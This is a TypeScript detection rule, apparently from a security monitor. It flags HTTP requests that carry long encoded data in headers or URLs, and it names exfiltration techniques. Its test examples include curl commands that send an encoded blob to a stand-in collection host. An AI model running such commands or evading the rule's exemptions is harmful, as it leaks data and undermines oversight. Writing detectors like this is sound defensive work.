import type { Context } from '../context.ts';
import { short } from '../phrases.ts';
import type { Indicator } from './types.ts';

const LEAST = 200;
const DATA = new RegExp(`[A-Za-z0-9+/_-]{${LEAST},}={0,2}`);
/** Headers and parameters that are long by nature. */
const LONG_BY_NATURE =
  /authorization|cookie|token|jwt|assertion|signature|policy|certificate|x-amz-|^sig$|^sv$|saml|code_|state/i;

function bulky(context: Context): string | undefined {
  for (const header of context.invocation.headers) {
    const colon = header.indexOf(':');
    const name = header.slice(0, colon);
    if (colon > 0 && !LONG_BY_NATURE.test(name) && DATA.test(header.slice(colon + 1)))
      return `header ${name.trim()}`;
  }
  for (const peer of context.targets) {
    if (peer.path === undefined || peer.path.length < LEAST) continue;
    const found = peer.path
      .split(/[/?&]/)
      .find((part) => DATA.test(part) && !LONG_BY_NATURE.test(part.split('=')[0] ?? ''));
    if (found !== undefined) return `${found.split('=')[0]?.slice(0, 20)}… in the URL`;
  }
  return undefined;
}

/** Much encoded data inside a request. */
export const bulkyRequest: Indicator = {
  id: 'bulky_request',
  points: 30,
  hard: false,
  mitre: ['T1048.003', 'T1132.001'],
  title: 'Encoded data inside a request',
  description: `A header or a part of the URL holds ${LEAST} or more characters of encoded data. Tokens, cookies and signatures, which are long by nature, do not count.`,
  evaluate(context) {
    if (context.category !== 'http') return undefined;
    const where = bulky(context);
    return where === undefined
      ? undefined
      : { evidence: short(where), why: `much encoded data travels in the ${short(where, 80)}` };
  },
  examples: {
    fires: [
      { run: `curl -H "X-Data: ${'QUJD0123'.repeat(40)}" http://collect.example.net/` },
      { run: `curl http://collect.example.net/${'QUJD0123'.repeat(40)}` },
    ],
    silent: [
      { run: `curl -H "Authorization: Bearer ${'QUJD0123'.repeat(40)}" http://api.example.com/` },
      { run: 'curl -H "Accept: application/json" http://api.example.com/v1/items' },
    ],
  },
};
